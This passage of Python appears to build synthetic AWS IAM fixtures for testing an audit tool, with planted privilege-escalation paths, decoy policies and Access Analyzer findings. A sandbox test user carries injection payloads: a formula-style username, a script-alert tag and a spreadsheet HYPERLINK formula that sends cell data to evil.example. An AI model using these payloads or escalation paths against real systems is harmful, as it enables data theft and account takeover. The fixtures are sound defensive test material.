                       password_last_changed=iso(ago(changed, 2, 5)))
            if self.id == MGMT:  # the management account's policy expires passwords after 90 days
                row["password_next_rotation"] = iso(ago(changed, 2, 5) + timedelta(days=90))
        for number in (1, 2):
            prefix = f"access_key_{number}_"
            row[prefix + "active"] = "false"
            if number > len(keys):
                continue
            active, rotated, used, region, service = keys[number - 1]
            row[prefix + "active"] = str(active).lower()
            row[prefix + "last_rotated"] = iso(ago(rotated, 1, 17))
            if used is not None:
                row.update({prefix + "last_used_date": iso(ago(used, 0, 15)), prefix + "last_used_region": region,
                            prefix + "last_used_service": service})
        self.cred_rows.append(row)

    def role(self, name, created, trust, attached=(), inline=None, path="/", last_used=None, region="us-east-1",
             boundary=None, tags=(), instance_profile=False):
        arn = self.arn("role", name, path)
        entity = {
            "Path": path, "RoleName": name, "RoleId": unique_id("AROA", self.id, name), "Arn": arn,
            "CreateDate": iso(created), "AssumeRolePolicyDocument": trust, "InstanceProfileList": [],
            "RolePolicyList": [{"PolicyName": k, "PolicyDocument": v} for k, v in (inline or {}).items()],
            "AttachedManagedPolicies": self._attached(attached),
        }
        if instance_profile:
            entity["InstanceProfileList"].append({
                "Path": "/", "InstanceProfileName": name, "InstanceProfileId": unique_id("AIPA", self.id, name),
                "Arn": self.arn("instance-profile", name), "CreateDate": iso(created),
                "Roles": [{k: entity[k] for k in ("Path", "RoleName", "RoleId", "Arn", "CreateDate",
                                                   "AssumeRolePolicyDocument")}],
            })
        self._boundary(entity, boundary)
        entity["Tags"] = [{"Key": k, "Value": v} for k, v in tags]
        entity["RoleLastUsed"] = {} if last_used is None else {
            "LastUsedDate": iso(ago(last_used, 4, 22)), "Region": region}
        self.roles.append(entity)

    def service_linked_role(self, service, name, policy, created, last_used=None):
        self.role(name, created, trust_service(service), attached=[self.aws_policy(policy)],
                  path=f"/aws-service-role/{service}/", last_used=last_used)

    def sso_role(self, permission_set, suffix, created, attached, last_used, inline=None, boundary=None):
        """The role Identity Center provisions for a permission set: its managed policies attached,
        its inline policy as AwsSSOInlinePolicy, its boundary as the role's."""
        self.role(f"AWSReservedSSO_{permission_set}_{suffix}", created, trust_sso(self.id), attached=attached,
                  path="/aws-reserved/sso.amazonaws.com/", last_used=last_used,
                  inline={"AwsSSOInlinePolicy": inline} if inline else None, boundary=boundary)

    def audit_role(self, last_used):
        """IamAuditorRole: what the audit itself assumes in every member account."""
        self.role("IamAuditorRole", datetime(2024, 3, 4, 10, 12, 0, tzinfo=timezone.utc),
                  trust_aws(f"arn:aws:iam::{MGMT}:role/iam-auditor-task"),
                  inline={"iam-auditor-read": doc(allow([
                      "iam:GetAccountAuthorizationDetails", "iam:GenerateCredentialReport",
                      "iam:GetCredentialReport", "iam:GetAccountPasswordPolicy", "iam:GetAccountSummary",
                      "access-analyzer:ListAnalyzers", "access-analyzer:ListFindingsV2"]))},
                  last_used=last_used)

    def root_row(self, created, password_used, mfa, key=None):
        row = dict.fromkeys(CRED_HEADER, "N/A")
        row.update({
            "user": "<root_account>", "arn": f"arn:aws:iam::{self.id}:root", "user_creation_time": iso(created),
            "password_enabled": "not_supported",
            "password_last_used": iso(ago(password_used, 14, 3)) if password_used is not None else "no_information",
            "password_last_changed": "not_supported", "password_next_rotation": "not_supported",
            "mfa_active": str(mfa).lower(), "access_key_1_active": "false", "access_key_2_active": "false",
            "cert_1_active": "false", "cert_2_active": "false",
        })
        if key:
            rotated, used, region, service = key
            row.update(access_key_1_active="true", access_key_1_last_rotated=iso(rotated),
                       access_key_1_last_used_date=iso(ago(used, 9, 48)), access_key_1_last_used_region=region,
                       access_key_1_last_used_service=service)
        self.root = row

    def authorization_details(self):
        return {
            "UserDetailList": sorted(self.users, key=lambda u: u["UserName"]),
            "GroupDetailList": sorted(self.groups, key=lambda g: g["GroupName"]),
            "RoleDetailList": sorted(self.roles, key=lambda r: r["RoleName"]),
            "Policies": sorted(self.policies.values(), key=lambda p: (p["Path"], p["PolicyName"])),
            "IsTruncated": False,
        }

    def credential_report(self):
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=CRED_HEADER, lineterminator="\n")
        writer.writeheader()
        writer.writerow(self.root)
        writer.writerows(sorted(self.cred_rows, key=lambda r: r["user"]))
        return buffer.getvalue()

    def account_summary(self, root_mfa, root_keys, providers):
        customer = [p for p in self.policies.values() if ":iam::aws:" not in p["Arn"]]
        return {"SummaryMap": {
            "GroupPolicySizeQuota": 5120, "InstanceProfilesQuota": 1000,
            "Policies": len(customer), "GroupsPerUserQuota": 10,
            "InstanceProfiles": sum(len(r["InstanceProfileList"]) for r in self.roles),
            "AttachedPoliciesPerUserQuota": 10, "Users": len(self.users), "PoliciesQuota": 1500,
            "Providers": providers, "AccountMFAEnabled": int(root_mfa), "AccessKeysPerUserQuota": 2,
            "AssumeRolePolicySizeQuota": 2048, "PolicyVersionsInUseQuota": 10000, "GlobalEndpointTokenVersion": 1,
            "VersionsPerPolicyQuota": 5, "AttachedPoliciesPerGroupQuota": 10, "PolicySizeQuota": 6144,
            "Groups": len(self.groups), "AccountSigningCertificatesPresent": 0, "UsersQuota": 5000,
            "ServerCertificatesQuota": 20, "MFADevices": self.mfa_devices + int(root_mfa),
            "UserPolicySizeQuota": 2048,
            "PolicyVersionsInUse": sum(p["AttachmentCount"] + p["PermissionsBoundaryUsageCount"] for p in customer),
            "ServerCertificates": 0, "Roles": len(self.roles), "RolesQuota": 1000,
            "SigningCertificatesPerUserQuota": 2, "MFADevicesInUse": self.mfa_devices + int(root_mfa),
            "RolePolicySizeQuota": 10240, "AttachedPoliciesPerRoleQuota": 10,
            "AccountAccessKeysPresent": int(root_keys), "AccountPasswordPresent": 1, "GroupsQuota": 300,
        }}


def analyzer(account, region, name, kind, created, unused_age=None):
    entry = {"arn": f"arn:aws:access-analyzer:{region}:{account}:analyzer/{name}", "createdAt": iso_us(created)}
    if unused_age is None:  # external access: it analyzes resource policies
        entry.update(lastResourceAnalyzed=f"arn:aws:s3:::acme-{account}-{region}-logs",
                     lastResourceAnalyzedAt=iso_us(ago(0, 1, 12, 0).replace(microsecond=517000)))
    else:
        entry["configuration"] = {"unusedAccess": {"unusedAccessAge": unused_age}}
    entry.update(name=name, status="ACTIVE", tags={}, type=kind)
    return entry


def analyzer_finding(finding_id, resource, resource_type, owner, finding_type, created, status="ACTIVE",
                     is_public=None):
    entry = {
        "analyzedAt": iso_us(ago(0, 2, 30)), "createdAt": iso_us(created), "id": finding_id, "resource": resource,
        "resourceType": resource_type, "resourceOwnerAccount": owner, "status": status,
        "updatedAt": iso_us(created + timedelta(hours=3)), "findingType": finding_type,
    }
    if is_public is not None:
        entry["isPublic"] = is_public
    return entry


# --- the accounts ---------------------------------------------------------------------------

def management():
    a = Account(MGMT, "acme-management")
    admin = a.aws_policy("AdministratorAccess")
    a.group("Administrators", datetime(2017, 3, 2, 11, 20, 5, tzinfo=timezone.utc), attached=[admin])
    a.group("Billing", datetime(2017, 3, 9, 15, 2, 44, tzinfo=timezone.utc),
            attached=[a.aws_policy("job-function/Billing")])
    a.user("alice.nguyen", datetime(2019, 6, 17, 8, 44, 10, tzinfo=timezone.utc), groups=["Administrators"],
           password=(2, 61), mfa=True)
    a.user("break-glass-admin", datetime(2017, 3, 2, 11, 31, 52, tzinfo=timezone.utc), attached=[admin],
           password=(34, 34), mfa=True,
           tags=[("purpose", "break-glass; credentials in the security safe"), ("ticket", "SEC-142")])
    a.user("priya.patel", datetime(2021, 1, 11, 9, 5, 31, tzinfo=timezone.utc), groups=["Billing"],
           password=(6, 40), mfa=True)
    a.user("cost-report-exporter", datetime(2022, 8, 23, 13, 40, 2, tzinfo=timezone.utc),
           groups=["Billing"], keys=[(True, 28, 0, "us-east-1", "ce")])

    a.root_row(datetime(2017, 3, 2, 10, 58, 13, tzinfo=timezone.utc), password_used=9, mfa=True)

    # The audit's own runner (an ECS task) and the organization's pipeline.
    a.role("iam-auditor-task", datetime(2024, 3, 4, 10, 2, 41, tzinfo=timezone.utc),
           trust_service("ecs-tasks.amazonaws.com", {"StringEquals": {"aws:SourceAccount": MGMT}}),
           attached=[a.aws_policy("SecurityAudit")],
           inline={"assume-audit-role": doc(allow("sts:AssumeRole", "arn:aws:iam::*:role/IamAuditorRole"))},
           last_used=1)
    a.role("org-pipeline", datetime(2022, 2, 14, 16, 30, 0, tzinfo=timezone.utc),
           trust_service("codebuild.amazonaws.com", {"StringEquals": {"aws:SourceAccount": MGMT}}),
           inline={"assume-deployers": doc(allow("sts:AssumeRole", "arn:aws:iam::*:role/cicd-deployer"))},
           last_used=0)
    # Escalates across accounts: it may assume OrganizationAccountAccessRole, which every member
    # account's copy grants AdministratorAccess and trusts this account.
    a.role("release-orchestrator", datetime(2025, 3, 3, 9, 0, 0, tzinfo=timezone.utc),
           trust_service("codebuild.amazonaws.com", {"StringEquals": {"aws:SourceAccount": MGMT}}),
           inline={"assume-member-admin": doc(allow("sts:AssumeRole",
                                                    "arn:aws:iam::*:role/OrganizationAccountAccessRole"))},
           last_used=2)
    a.role("stacksets-legacy-execution", datetime(2021, 5, 19, 12, 0, 7, tzinfo=timezone.utc),
           trust_aws(f"arn:aws:iam::{MGMT}:root"),
           attached=[a.customer_policy("stacksets-legacy-deploy", [
               (doc(allow(["cloudformation:*", "s3:GetObject", "sns:Publish"])), 2010, True)],
               datetime(2021, 5, 19, 12, 0, 5, tzinfo=timezone.utc))])

    # Decoys: a policy whose only non-default version grants * on *, and * on a single bucket.
    logs_writer = a.customer_policy("s3-logs-writer", [
        (doc(allow(["s3:PutObject", "s3:PutObjectAcl"], "arn:aws:s3:::acme-org-cloudtrail-logs/AWSLogs/*")), 412, True),
        (doc(allow("*")), 1301, False),
    ], datetime(2023, 6, 7, 9, 12, 45, tzinfo=timezone.utc),
        description="Write access to the CloudTrail log bucket (v1 was a temporary debug grant)")
    bucket_admin = a.customer_policy("log-archive-bucket-admin", [
        (doc(allow("*", ["arn:aws:s3:::acme-org-log-archive", "arn:aws:s3:::acme-org-log-archive/*"])), 720, True),
    ], datetime(2024, 11, 30, 10, 1, 2, tzinfo=timezone.utc))
    a.role("log-shipper", datetime(2023, 6, 7, 9, 15, 0, tzinfo=timezone.utc),
           trust_service("lambda.amazonaws.com"), attached=[logs_writer, bucket_admin], last_used=0)

    sso_created = datetime(2023, 1, 24, 14, 3, 9, tzinfo=timezone.utc)
    a.sso_role("AdministratorAccess", "5f3a1c9e2b7d4a60", sso_created, [admin], last_used=1)
    a.sso_role("ReadOnlyAccess", "9c1e7b2a4f6d3e85", sso_created, [a.aws_policy("ReadOnlyAccess")], last_used=0)
    a.sso_role("Billing", "2d8f4a6c1e3b5970", sso_created, [a.aws_policy("job-function/Billing")], last_used=13)

    a.service_linked_role("organizations.amazonaws.com", "AWSServiceRoleForOrganizations",
                          "aws-service-role/AWSOrganizationsServiceTrustPolicy",
                          datetime(2017, 3, 2, 11, 5, 40, tzinfo=timezone.utc), last_used=0)
    a.service_linked_role("access-analyzer.amazonaws.com", "AWSServiceRoleForAccessAnalyzer",
                          "aws-service-role/AccessAnalyzerServiceRolePolicy",
                          datetime(2023, 2, 14, 10, 2, 9, tzinfo=timezone.utc), last_used=0)
    a.service_linked_role("support.amazonaws.com", "AWSServiceRoleForSupport",
                          "aws-service-role/AWSSupportServiceRolePolicy",
                          datetime(2017, 3, 2, 11, 6, 1, tzinfo=timezone.utc))
    a.service_linked_role("trustedadvisor.amazonaws.com", "AWSServiceRoleForTrustedAdvisor",
                          "aws-service-role/AWSTrustedAdvisorServiceRolePolicy",
                          datetime(2017, 3, 2, 11, 6, 2, tzinfo=timezone.utc))

    password_policy = {"PasswordPolicy": {
        "MinimumPasswordLength": 14, "RequireSymbols": True, "RequireNumbers": True,
        "RequireUppercaseCharacters": True, "RequireLowercaseCharacters": True, "AllowUsersToChangePassword": True,
        "ExpirePasswords": True, "MaxPasswordAge": 90, "PasswordReusePrevention": 24, "HardExpiry": False}}
    analyzers = {region: {"analyzers": [
        analyzer(MGMT, region, "acme-org-analyzer", "ORGANIZATION", datetime(2023, 2, 14, 10, 2, 11, tzinfo=timezone.utc)),
        analyzer(MGMT, region, "acme-org-unused-access", "ORGANIZATION_UNUSED_ACCESS",
                 datetime(2024, 1, 9, 8, 30, 0, tzinfo=timezone.utc), unused_age=90),
    ], "findings": []} for region in REGIONS}
    return a, password_policy, analyzers, dict(root_mfa=True, root_keys=False, providers=1)


def prod():
    a = Account(PROD, "acme-prod")
    admin = a.aws_policy("AdministratorAccess")
    readonly = a.aws_policy("ReadOnlyAccess")
    legacy_readonly = a.customer_policy("ReadOnlyAccess-legacy", [
        (doc(allow("*")), 596, True),
        (doc(allow(READ_ONLY_ACTIONS + ["s3:GetObject", "dynamodb:Query", "dynamodb:Scan"])), 1650, False),
        (doc(allow(READ_ONLY_ACTIONS)), 2240, False),
    ], datetime(2020, 10, 1, 9, 0, 0, tzinfo=timezone.utc),
        description="Read-only access for contractors (copy of the AWS policy, 2020)")
    a.group("ReadOnly", datetime(2020, 10, 1, 9, 4, 12, tzinfo=timezone.utc), attached=[legacy_readonly])
    a.group("Operators", datetime(2019, 2, 4, 12, 0, 0, tzinfo=timezone.utc), attached=[readonly],
            inline={"restart-services": doc(allow(["ecs:UpdateService", "ecs:DescribeServices"],
                                                  f"arn:aws:ecs:us-east-1:{PROD}:service/prod/*"))})
    a.group("ServiceAccounts", datetime(2019, 2, 4, 12, 5, 0, tzinfo=timezone.utc),
            inline={"put-metrics": doc(allow("cloudwatch:PutMetricData"))})

    a.user("sam.contractor", datetime(2025, 4, 2, 8, 15, 0, tzinfo=timezone.utc), groups=["ReadOnly"],
           password=(5, 190), mfa=True, tags=[("company", "Northwind Consulting"), ("expires", "2027-04-01")])
    a.user("maria.garcia", datetime(2019, 2, 11, 10, 22, 3, tzinfo=timezone.utc), groups=["Operators"],
           password=(1, 77), mfa=True)
    if not PREVIOUS:  # created 6 days ago: not there a week ago
        a.user("new.hire", ago(6, 3, 10), groups=["Operators"], password=(None, 6), mfa=True)
    a.user("tom.ito", datetime(2020, 9, 14, 8, 0, 0, tzinfo=timezone.utc), groups=["Operators"],
           password=(0, 52), mfa=True)
    a.user("ines.silva", datetime(2022, 1, 10, 9, 30, 0, tzinfo=timezone.utc), groups=["Operators"],
           password=(3, 15), mfa=True, keys=[(True, 15, 3, "us-east-1", "ecs")])
    a.user("old.intern", ago(510, 5, 0), groups=["Operators"], password=(300, 505), mfa=False)
    deploy_policy = a.customer_policy("jenkins-deploy-policy", [
        (doc(allow(["ecr:GetAuthorizationToken", "ecr:BatchCheckLayerAvailability", "ecr:PutImage",
                    "ecr:InitiateLayerUpload", "ecr:UploadLayerPart", "ecr:CompleteLayerUpload"]),
             allow(["ecs:RegisterTaskDefinition", "ecs:UpdateService", "ecs:DescribeServices"]),
             allow("iam:PassRole", f"arn:aws:iam::{PROD}:role/ecs-task-*")), 900, True),
    ], datetime(2018, 7, 3, 14, 11, 9, tzinfo=timezone.utc))
    a.user("jenkins-deploy", datetime(2018, 7, 3, 14, 12, 30, tzinfo=timezone.utc), attached=[deploy_policy],
           keys=[(True, 640, 0, "us-east-1", "ecr"), (True, 200, 150, "us-east-1", "ecs")])
    a.user("reporting-ro", ago(120, 9, 30), groups=["Operators"],
           keys=[(True, 120, None, None, None)])
    a.user("svc-metrics-pusher", datetime(2021, 9, 30, 7, 0, 0, tzinfo=timezone.utc), groups=["ServiceAccounts"],
           keys=[(True, 40, 0, "us-east-1", "monitoring")])

    # Escalation paths: a release bot that may pass any role to a new Lambda function (and
    # ops-automation, which Lambda may assume, holds everything but billing), and a help desk
    # account that may create access keys for any user (sam.contractor is admin).
    a.user("release-bot", datetime(2025, 6, 2, 10, 0, 0, tzinfo=timezone.utc),
           inline={"deploy-functions": doc(allow(["iam:PassRole", "lambda:CreateFunction", "lambda:InvokeFunction",
                                                  "lambda:GetFunction"]))},
           keys=[(True, 30, 0, "us-east-1", "lambda")])
    a.user("helpdesk", datetime(2024, 1, 15, 9, 0, 0, tzinfo=timezone.utc), password=(1, 80), mfa=True,
           inline={"reset-credentials": doc(allow(["iam:CreateAccessKey", "iam:ListAccessKeys", "iam:ListUsers"],
                                                  f"arn:aws:iam::{PROD}:user/*"))})
    # Look-alikes that must not fire: keys for oneself only, and PassRole limited to app-* roles
    # (none of which is admin) and to Lambda.
    a.user("key-self-service", datetime(2024, 1, 15, 9, 5, 0, tzinfo=timezone.utc),
           inline={"own-keys": doc(allow(["iam:CreateAccessKey", "iam:DeleteAccessKey", "iam:UpdateAccessKey"],
                                         f"arn:aws:iam::{PROD}:user/${{aws:username}}"))},
           keys=[(True, 10, 0, "us-east-1", "iam")])
    a.user("app-deployer", datetime(2024, 5, 5, 9, 0, 0, tzinfo=timezone.utc),
           inline={"deploy-app-functions": doc(
               allow("iam:PassRole", f"arn:aws:iam::{PROD}:role/app-*",
                     condition={"StringEquals": {"iam:PassedToService": "lambda.amazonaws.com"}}),
               allow(["lambda:CreateFunction", "lambda:InvokeFunction"]))},
           keys=[(True, 12, 0, "us-east-1", "lambda")])

    a.root_row(datetime(2018, 6, 30, 16, 20, 11, tzinfo=timezone.utc), password_used=411, mfa=True)

    a.role("OrganizationAccountAccessRole", datetime(2018, 6, 30, 16, 21, 2, tzinfo=timezone.utc),
           trust_aws(f"arn:aws:iam::{MGMT}:root"), attached=[admin], last_used=20)
    a.audit_role(last_used=1)
    a.role("cicd-deployer", datetime(2022, 2, 14, 16, 40, 0, tzinfo=timezone.utc),
           trust_aws(f"arn:aws:iam::{MGMT}:role/org-pipeline", {"StringEquals": {"aws:PrincipalOrgID": ORG_ID}}),
           attached=[deploy_policy], last_used=0)
    a.role("org-readonly-access", datetime(2023, 8, 8, 8, 8, 8, tzinfo=timezone.utc),
           trust_aws("*", {"StringEquals": {"aws:PrincipalOrgID": ORG_ID}}), attached=[readonly], last_used=3)
    a.role("partner-data-share", datetime(2024, 5, 21, 15, 45, 0, tzinfo=timezone.utc),
           trust_aws("*", {"StringEquals": {"sts:ExternalId": "acme-partner-7731"}}),
           inline={"read-exports": doc(allow(["s3:GetObject", "s3:ListBucket"], [
               "arn:aws:s3:::acme-prod-partner-exports", "arn:aws:s3:::acme-prod-partner-exports/*"]))},
           tags=[("description", "Partners read <b>exports</b> & \"reports\" here")], last_used=2)
    a.role("observability-vendor-integration", datetime(2022, 11, 3, 10, 0, 0, tzinfo=timezone.utc),
           trust_aws(f"arn:aws:iam::{VENDOR_OBSERVABILITY}:root",
                     {"StringEquals": {"sts:ExternalId": "3f2a9c7e5b1d4e6f8a0b2c4d6e8f0a1b"}}),
           attached=[a.aws_policy("SecurityAudit")], last_used=0)
    a.role("legacy-backup-vendor", datetime(2019, 9, 12, 11, 30, 0, tzinfo=timezone.utc),
           trust_aws(f"arn:aws:iam::{VENDOR_BACKUP}:root"),
           inline={"backup-read": doc(allow(["s3:GetObject", "s3:ListBucket", "rds:DescribeDBSnapshots"]))},
           last_used=130)
    a.role("github-actions-deploy-prod", datetime(2024, 2, 6, 9, 0, 0, tzinfo=timezone.utc),
           trust_oidc(PROD, GITHUB, {"StringEquals": {
               f"{GITHUB}:aud": "sts.amazonaws.com",
               f"{GITHUB}:sub": "repo:acme-corp/payments-api:ref:refs/heads/main"}}),
           attached=[deploy_policy], last_used=0)
    a.role("github-actions-terraform", datetime(2023, 3, 27, 13, 13, 13, tzinfo=timezone.utc),
           trust_oidc(PROD, GITHUB, {
               "StringEquals": {f"{GITHUB}:aud": "sts.amazonaws.com"},
               "StringLike": {f"{GITHUB}:sub": "repo:acme-corp/*"}}),
           attached=[admin], last_used=1)
    a.role("eks-external-dns", datetime(2024, 9, 17, 12, 0, 0, tzinfo=timezone.utc),
           trust_oidc(PROD, EKS_ISSUER, {"StringEquals": {
               f"{EKS_ISSUER}:sub": "system:serviceaccount:kube-system:external-dns",
               f"{EKS_ISSUER}:aud": "sts.amazonaws.com"}}),
           inline={"route53-records": doc(
               allow("route53:ChangeResourceRecordSets", "arn:aws:route53:::hostedzone/Z0123456789ABCDEFGHIJ"),
               allow(["route53:ListHostedZones", "route53:ListResourceRecordSets"]))},
           last_used=0)
    a.role("ops-automation", datetime(2021, 4, 13, 17, 2, 0, tzinfo=timezone.utc),
           trust_service("lambda.amazonaws.com"),
           inline={"automation-all-but-billing": doc({
               "Effect": "Allow", "NotAction": ["aws-portal:*", "budgets:*", "ce:*"], "Resource": "*"})},
           last_used=0)
    a.role("ecs-task-payments-api", datetime(2024, 2, 6, 9, 30, 0, tzinfo=timezone.utc),
           trust_service("ecs-tasks.amazonaws.com", {"StringEquals": {"aws:SourceAccount": PROD}}),
           inline={"payments-data": doc(
               allow(["dynamodb:GetItem", "dynamodb:PutItem", "dynamodb:Query"],
                     f"arn:aws:dynamodb:us-east-1:{PROD}:table/payments"),
               allow(["sqs:SendMessage"], f"arn:aws:sqs:us-east-1:{PROD}:payments-events"))},
           last_used=0)
    a.role("bastion-ssm", datetime(2020, 1, 8, 10, 0, 0, tzinfo=timezone.utc), trust_service("ec2.amazonaws.com"),
           inline={"ssm-core": doc(allow(["ssm:UpdateInstanceInformation", "ssmmessages:*", "ec2messages:*"]))},
           instance_profile=True, last_used=0)
    a.role("app-thumbnailer", datetime(2024, 5, 5, 9, 10, 0, tzinfo=timezone.utc),
           trust_service("lambda.amazonaws.com"),
           inline={"thumbnails": doc(allow(["s3:GetObject", "s3:PutObject"], "arn:aws:s3:::acme-prod-media/*"))},
           last_used=0)
    a.role("reporting-etl-old", datetime(2020, 6, 1, 9, 0, 0, tzinfo=timezone.utc),
           trust_service("glue.amazonaws.com"),
           inline={"etl": doc(allow(["s3:GetObject", "s3:PutObject"], "arn:aws:s3:::acme-prod-reports/*"))},
           last_used=210)

    sso_created = datetime(2023, 1, 24, 14, 10, 0, tzinfo=timezone.utc)
    a.sso_role("AdministratorAccess", "0b6e2f8d4c1a9e37", sso_created, [admin], last_used=4)
    a.sso_role("ReadOnlyAccess", "7a3c5e9b1d2f4068", sso_created, [readonly], last_used=0)
    a.sso_role("ProdOperator", "e4d2c6a8b0f13579", sso_created, [a.aws_policy("PowerUserAccess")], last_used=0,
               inline=PERMISSION_SETS["ProdOperator"]["inline"])

    a.service_linked_role("ecs.amazonaws.com", "AWSServiceRoleForECS", "aws-service-role/AmazonECSServiceRolePolicy",
                          datetime(2019, 2, 4, 11, 0, 0, tzinfo=timezone.utc), last_used=0)
    a.service_linked_role("access-analyzer.amazonaws.com", "AWSServiceRoleForAccessAnalyzer",
                          "aws-service-role/AccessAnalyzerServiceRolePolicy",
                          datetime(2023, 2, 14, 10, 5, 0, tzinfo=timezone.utc), last_used=0)
    a.service_linked_role("support.amazonaws.com", "AWSServiceRoleForSupport",
                          "aws-service-role/AWSSupportServiceRolePolicy",
                          datetime(2018, 6, 30, 16, 21, 30, tzinfo=timezone.utc))

    password_policy = {"PasswordPolicy": {
        "MinimumPasswordLength": 8, "RequireSymbols": True, "RequireNumbers": True,
        "RequireUppercaseCharacters": True, "RequireLowercaseCharacters": True, "AllowUsersToChangePassword": True,
        "ExpirePasswords": False, "PasswordReusePrevention": 5}}
    analyzer_created = datetime(2023, 2, 14, 10, 5, 2, tzinfo=timezone.utc)
    analyzers = {
        "us-east-1": {
            "analyzers": [
                analyzer(PROD, "us-east-1", "prod-account-analyzer", "ACCOUNT", analyzer_created),
                analyzer(PROD, "us-east-1", "prod-unused-access", "ACCOUNT_UNUSED_ACCESS",
                         datetime(2024, 1, 9, 8, 40, 0, tzinfo=timezone.utc), unused_age=90),
            ],
            "findings": [
                analyzer_finding("4c0d7a3e-2b1f-4e89-9c6a-5d8e7f1a2b3c", "arn:aws:s3:::acme-prod-static-site",
                                 "AWS::S3::Bucket", PROD, "ExternalAccess", ago(44, 6), is_public=True),
                analyzer_finding("8e5b2c1d-7f3a-4d6e-b9c0-1a2b3c4d5e6f", "arn:aws:s3:::acme-prod-partner-exports",
                                 "AWS::S3::Bucket", PROD, "ExternalAccess", ago(180, 2), is_public=False),
                analyzer_finding("b2d4f6a8-c0e1-4357-9a8b-7c6d5e4f3a2b",
                                 f"arn:aws:iam::{PROD}:role/legacy-backup-vendor", "AWS::IAM::Role", PROD,
                                 "ExternalAccess", ago(600, 1), is_public=False),
                analyzer_finding("0f1e2d3c-4b5a-4697-8877-665544332211",
                                 f"arn:aws:iam::{PROD}:role/observability-vendor-integration", "AWS::IAM::Role",
                                 PROD, "ExternalAccess", ago(700, 5), status="ARCHIVED", is_public=False),
                analyzer_finding("6a7b8c9d-0e1f-4a2b-8c3d-4e5f6a7b8c9d",
                                 f"arn:aws:iam::{PROD}:role/reporting-etl-old", "AWS::IAM::Role", PROD,
                                 "UnusedIAMRole", ago(120, 8)),
            ],
        },
        # Workloads started in eu-west-1 this year; nobody created an analyzer there.
        "eu-west-1": {"analyzers": [], "findings": []},
    }
    return a, password_policy, analyzers, dict(root_mfa=True, root_keys=False, providers=3)


def dev_sandbox():
    a = Account(DEV, "acme-dev-sandbox")
    admin = a.aws_policy("AdministratorAccess")
    power = a.aws_policy("PowerUserAccess")
    boundary = a.customer_policy("SandboxPermissionsBoundary", [
        (doc(allow(["ec2:*", "s3:*", "lambda:*", "dynamodb:*", "logs:*", "cloudwatch:*", "sqs:*", "sns:*",
                    "ecr:*", "ecs:*", "sagemaker:*", "iam:GetRole", "iam:ListRoles", "iam:PassRole"],
                   sid="SandboxServices")), 388, True),
    ], datetime(2025, 10, 27, 9, 0, 0, tzinfo=timezone.utc),
        description="Caps sandbox admins to workload services; no IAM writes")
    a.group("Developers", datetime(2020, 3, 16, 9, 0, 0, tzinfo=timezone.utc), attached=[power])

    a.user("dev.kim", datetime(2022, 5, 9, 9, 14, 0, tzinfo=timezone.utc), groups=["Developers"],
           password=(1, 30), mfa=True, keys=[(True, 20, 1, "us-east-1", "s3")])
    a.user("hiro.cohen", datetime(2024, 2, 19, 9, 0, 0, tzinfo=timezone.utc), groups=["Developers"],
           password=(0, 70), mfa=True, keys=[(True, 70, 0, "eu-west-1", "lambda")])
    a.user("dev.lee", datetime(2023, 7, 3, 9, 1, 0, tzinfo=timezone.utc), groups=["Developers"],
           password=(50, 120), mfa=True)
    a.user("test-user-2021", datetime(2021, 2, 2, 16, 45, 0, tzinfo=timezone.utc), groups=["Developers"],
           password=(400, 650), mfa=False)
    # Its own policy's old version v1 granted everything, and it may choose the default version.
    notebook_tools = a.customer_policy("notebook-tools", [
        (doc(allow(["s3:GetObject", "s3:ListBucket"], "arn:aws:s3:::acme-sandbox-datasets*"),
             allow(["iam:GetPolicyVersion", "iam:ListPolicyVersions", "iam:SetDefaultPolicyVersion"],
                   f"arn:aws:iam::{DEV}:policy/notebook-tools")), 60, True),
        (doc(allow("*")), 400, False),
    ], datetime(2024, 4, 18, 9, 55, 0, tzinfo=timezone.utc),
        description="Datasets for the ML notebook (v1: set up during the POC)")
    a.user("ml-notebook", datetime(2024, 4, 18, 10, 0, 0, tzinfo=timezone.utc),
           attached=[a.aws_policy("AmazonSageMakerFullAccess"), notebook_tools],
           keys=[(True, 95, 10, "us-east-1", "sagemaker")])
    # Look-alike: may write its own policies, but the sandbox boundary allows no IAM writes,
    # so whatever it grants itself stays capped.
    a.user("intern.boundary", ago(20, 2), password=(1, 20), mfa=True, boundary=boundary,
           inline={"self-service": doc(allow(["iam:PutUserPolicy", "iam:AttachUserPolicy"],
                                             f"arn:aws:iam::{DEV}:user/${{aws:username}}"))})
    # Created three days ago by someone with sandbox admin; its name is a spreadsheet formula.
    if not PREVIOUS:  # not there a week ago
        a.user("=cmd@evil", ago(3, 4, 11), password=(2, 3), mfa=False,
               inline={"self-service": doc(allow(["iam:AttachUserPolicy", "iam:PutUserPolicy", "iam:ListAttachedUserPolicies"],
                                                  f"arn:aws:iam::{DEV}:user/*"))},
               tags=[("owner", "<b>bob</b><script>alert('owner')</script>"),
                     ("cost-center", '=HYPERLINK("http://evil.example/steal?c="&A1,"invoice")')])

    a.root_row(datetime(2019, 11, 4, 13, 37, 0, tzinfo=timezone.utc), password_used=75, mfa=False,
               key=(datetime(2019, 11, 4, 13, 52, 0, tzinfo=timezone.utc), 75, "us-east-1", "s3"))

    a.role("OrganizationAccountAccessRole", datetime(2019, 11, 4, 13, 38, 0, tzinfo=timezone.utc),
           trust_aws(f"arn:aws:iam::{MGMT}:root"), attached=[admin])
    a.audit_role(last_used=1)
    a.role("sandbox-admin", datetime(2025, 10, 27, 9, 5, 0, tzinfo=timezone.utc),
           trust_aws(f"arn:aws:iam::{DEV}:root", {"Bool": {"aws:MultiFactorAuthPresent": "true"}}),
           attached=[admin], boundary=boundary, last_used=0)
    a.role("github-actions-sandbox", datetime(2024, 8, 1, 12, 0, 0, tzinfo=timezone.utc),
           trust_oidc(DEV, GITHUB, {"StringEquals": {f"{GITHUB}:aud": "sts.amazonaws.com"}}),
           attached=[power], last_used=0)
    # Look-alikes: AttachRolePolicy only for one fixed non-admin policy and only by Quick Setup
    # roles (as AWS's own Quick Setup policies do), and a trust rewrite of a role whose boundary
    # caps it.
    a.role("quicksetup-ssm-helper", ago(90, 1), trust_service("ssm.amazonaws.com"),
           inline={"attach-ssm-core": doc(allow("iam:AttachRolePolicy", "*", condition={
               "ArnEquals": {"iam:PolicyARN": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"},
               "ArnLike": {"aws:PrincipalArn": "arn:aws:iam::*:role/AWS-QuickSetup-*"}}))},
           last_used=5)
    a.role("sandbox-trust-editor", ago(90, 2), trust_service("codebuild.amazonaws.com"),
           inline={"edit-sandbox-trust": doc(allow(["iam:UpdateAssumeRolePolicy", "iam:GetRole"],
                                                   f"arn:aws:iam::{DEV}:role/sandbox-admin"))},
           last_used=5)
